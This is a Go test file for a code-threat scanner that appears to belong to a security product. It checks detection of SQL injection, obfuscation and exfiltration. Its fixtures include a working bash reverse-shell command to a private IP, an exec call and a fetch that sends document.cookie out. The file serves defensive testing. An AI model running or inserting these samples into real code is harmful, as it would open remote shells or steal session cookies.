// Copyright (C) 2026 Seawall AI (dev@seawall.ai)
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
// See the LICENSE.txt file for the full license text.

package intel

import (
	"math"
	"testing"

	"github.com/seawall-ai/seawall/services/gate"
	"github.com/seawall-ai/seawall/services/gate/extract"
	"github.com/seawall-ai/seawall/services/gate/patterns"
	"github.com/seawall-ai/seawall/services/gate/risk"
	"github.com/seawall-ai/seawall/services/gate/semantic"
)

func analyze(t *testing.T, text string) *Result {
	t.Helper()
	sem := semantic.New(patterns.Default()).Analyze(text, "input.js", nil)
	rr := risk.NewAnalyzer().Analyze(text, sem)
	return NewAnalyzer().Analyze(text, sem, rr)
}

func TestScanThreatsSQLInjection(t *testing.T) {
	text := "db.query(\"SELECT * FROM users WHERE id = \" + userId);\n"

	report := scanThreats(text)
	if report.Level != gate.RiskHigh {
		t.Errorf("level = %q, want high", report.Level)
	}
	found := false
	for _, h := range report.Hits {
		if h.Name == "sql_injection" {
			found = true
			if h.Line != 1 {
				t.Errorf("line = %d, want 1", h.Line)
			}
			if h.Category != "injection" {
				t.Errorf("category = %q, want injection", h.Category)
			}
		}
	}
	if !found {
		t.Fatalf("no sql_injection hit in %+v", report.Hits)
	}
}

func TestScanThreatsEscalatesToCritical(t *testing.T) {
	// Three distinct high-severity idioms clear the escalation count.
	text := "db.query(\"SELECT \" + id);\n" +
		"exec(cmd);\n" +
		"fetch(url, { body: document.cookie });\n"

	report := scanThreats(text)
	if report.Level != gate.RiskCritical {
		t.Errorf("level = %q, want critical (hits: %+v)", report.Level, report.Hits)
	}
}

func TestScanThreatsClean(t *testing.T) {
	texts := []string{
		"const total = items.reduce((a, b) => a + b, 0);\n",
		"function increment(n) { return n + 1; }\n",
		"async function syncData() { await db.flush(); }\n",
	}
	for _, text := range texts {
		report := scanThreats(text)
		if report.Level != gate.RiskLow || len(report.Hits) != 0 {
			t.Errorf("scanThreats(%q) = %+v, want low/empty", text, report)
		}
	}
}

func TestScanThreatsReverseShell(t *testing.T) {
	text := "exec('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1');\n"

	report := scanThreats(text)
	found := false
	for _, h := range report.Hits {
		if h.Name == "reverse_shell" {
			found = true
		}
	}
	if !found {
		t.Fatalf("no reverse_shell hit in %+v", report.Hits)
	}
}

func TestProfileBehaviorGroups(t *testing.T) {
	sem := &semantic.Context{
		Functions: []semantic.Function{
			{Function: extract.Function{Name: "loadProfile"}},
			{Function: extract.Function{Name: "sendReport"}},
			{Function: extract.Function{Name: "parseRows"}},
		},
	}

	report := profileBehavior(sem)
	if len(report.Groups["access"]) != 1 || report.Groups["access"][0] != "loadProfile" {
		t.Errorf("access group = %v", report.Groups["access"])
	}
	if len(report.Groups["communication"]) != 1 {
		t.Errorf("communication group = %v", report.Groups["communication"])
	}
	if len(report.Groups["data_processing"]) != 1 {
		t.Errorf("data_processing group = %v", report.Groups["data_processing"])
	}
	if math.Abs(report.Score-0.6) > 1e-9 {
		t.Errorf("score = %v, want 0.6", report.Score)
	}
}

func TestProfileBehaviorExcessiveNetwork(t *testing.T) {
	var fns []semantic.Function
	for i := 0; i < 6; i++ {
		fns = append(fns, semantic.Function{
			Function:           extract.Function{Name: "callService"},
			MakesExternalCalls: true,
		})
	}
	report := profileBehavior(&semantic.Context{Functions: fns})

	if len(report.Flags) != 1 {
		t.Fatalf("flags = %+v, want one", report.Flags)
	}
	f := report.Flags[0]
	if f.Type != "excessive_network_requests" || f.Confidence != 0.7 {
		t.Errorf("flag = %+v", f)
	}
}

func TestProfileBehaviorScoreCap(t *testing.T) {
	sem := &semantic.Context{
		Functions: []semantic.Function{
			{Function: extract.Function{Name: "getData"}},
			{Function: extract.Function{Name: "postUpdate"}},
			{Function: extract.Function{Name: "parseInput"}},
			{Function: extract.Function{Name: "createBuffer"}},
			{Function: extract.Function{Name: "scheduleJob"}},
		},
	}
	report := profileBehavior(sem)
	if report.Score != 1.0 {
		t.Errorf("score = %v, want capped at 1.0", report.Score)
	}
}

func TestInferIntentMajorityRole(t *testing.T) {
	sem := &semantic.Context{
		Functions: []semantic.Function{
			{Function: extract.Function{Name: "calculateTax"}, Role: semantic.RoleBusiness},
			{Function: extract.Function{Name: "calculateFee"}, Role: semantic.RoleBusiness},
			{Function: extract.Function{Name: "renderRow"}, Role: semantic.RoleUI},
		},
	}
	report := inferIntent("", sem)

	if report.PrimaryPurpose != semantic.RoleBusiness {
		t.Errorf("purpose = %q, want business", report.PrimaryPurpose)
	}
	// 2/3 business alignment, 0/3 technical alignment, averaged.
	want := (2.0/3 + 0) / 2
	if math.Abs(report.Legitimacy-want) > 1e-9 {
		t.Errorf("legitimacy = %v, want %v", report.Legitimacy, want)
	}
	if len(report.SuspicionIndicators) != 0 {
		t.Errorf("suspicion = %v, want none", report.SuspicionIndicators)
	}
}

func TestInferIntentNoFunctions(t *testing.T) {
	report := inferIntent("const x = 1;\n", &semantic.Context{})

	if report.PrimaryPurpose != semantic.RoleUnknown {
		t.Errorf("purpose = %q, want unknown", report.PrimaryPurpose)
	}
	if report.Legitimacy != 0.5 {
		t.Errorf("legitimacy = %v, want 0.5", report.Legitimacy)
	}
}

func TestInferIntentObfuscationPenalty(t *testing.T) {
	text := "const s = String.fromCharCode(104, 105);\n" +
		"const t = atob(payload);\n"
	sem := &semantic.Context{
		Functions: []semantic.Function{
			{Function: extract.Function{Name: "parseBlob"}, Role: semantic.RoleUtility},
		},
	}
	report := inferIntent(text, sem)

	// Full technical alignment halved, minus two marker penalties.
	want := 0.5 - 2*hiddenIndicatorPenalty
	if math.Abs(report.Legitimacy-want) > 1e-9 {
		t.Errorf("legitimacy = %v, want %v", report.Legitimacy, want)
	}
	found := false
	for _, s := range report.SuspicionIndicators {
		if s == "2 obfuscation marker(s)" {
			found = true
		}
	}
	if !found {
		t.Errorf("suspicion = %v, want obfuscation marker entry", report.SuspicionIndicators)
	}
}

func TestDetectAnomaliesEmptyContract(t *testing.T) {
	sem := &semantic.Context{}
	rr := &risk.Result{}

	report := detectAnomalies(sem, rr)
	if len(report.Anomalies) != 0 {
		t.Errorf("anomalies = %+v, want none from the built-in detectors", report.Anomalies)
	}
	if report.Score != 0 {
		t.Errorf("score = %v, want 0", report.Score)
	}
	if report.Confidence != anomalyConfidenceEmpty {
		t.Errorf("confidence = %v, want %v", report.Confidence, anomalyConfidenceEmpty)
	}
}

func TestAnalyzeEndToEnd(t *testing.T) {
	text := "function fetchUsers() {\n" +
		"  return fetch('/api/users');\n" +
		"}\n"

	res := analyze(t, text)
	if res == nil {
		t.Fatal("nil result")
	}
	if res.Threat.Level != gate.RiskLow {
		t.Errorf("threat level = %q, want low", res.Threat.Level)
	}
	if len(res.Behavior.Groups) == 0 {
		t.Error("expected at least one behavior group")
	}
	if res.Intent.PrimaryPurpose != semantic.RoleInfrastructure {
		t.Errorf("purpose = %q, want infrastructure", res.Intent.PrimaryPurpose)
	}
}
